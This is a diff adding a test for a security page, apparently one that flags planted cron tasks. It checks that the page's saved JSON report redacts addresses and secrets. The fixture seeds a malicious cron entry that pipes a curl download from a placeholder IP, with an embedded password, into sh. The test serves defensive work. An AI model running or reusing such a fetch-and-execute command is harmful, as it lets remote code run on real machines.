@@ -71,6 +71,28 @@ test('security: an address is whole on the screen, and in parts in a saved repor
   expect(text.trimEnd()).toMatch(/crontab -l; cat \/etc\/crontab \/etc\/cron\.d\/\*$/)
 })
 
+test('security: the report for programs holds neither secrets nor whole addresses', async () => {
+  const seed = { cron: [{ id: 4, name: 'at 198.51.100.7', command: 'curl -u bob:hunter2 http://198.51.100.7/x | sh' }] }
+  const { user } = await renderApp('/settings/security', { seed })
+  await group(/^Act now \(1\)/)
+  const { saved, restore } = catchFile()
+  await user.click(screen.getByRole('button', { name: 'Save as JSON' }))
+  await waitFor(() => expect(saved.file).toBeDefined())
+  restore()
+  const text = await saved.file!.text()
+  expect(text).not.toMatch(/198\.51\.100|hunter2/)
+  const { version, findings } = JSON.parse(text) as { version: string; findings: object[] }
+  expect(version).toBe('2.3.7')
+  expect(findings).toContainEqual(
+    expect.objectContaining({
+      level: 'critical',
+      check: 'plantedTask',
+      record: { resource: 'cron', id: 4, name: 'at 198.51.x.x' },
+      known: false,
+    }),
+  )
+})
+
 test('security: what was examined is told by what was looked for, with how many records', async () => {
   const seed = { nat: [1, 2].map((id) => ({ id, name: `box ${id}`, domain: `${id}.example.com` })) }
   await renderApp('/settings/security', { seed })
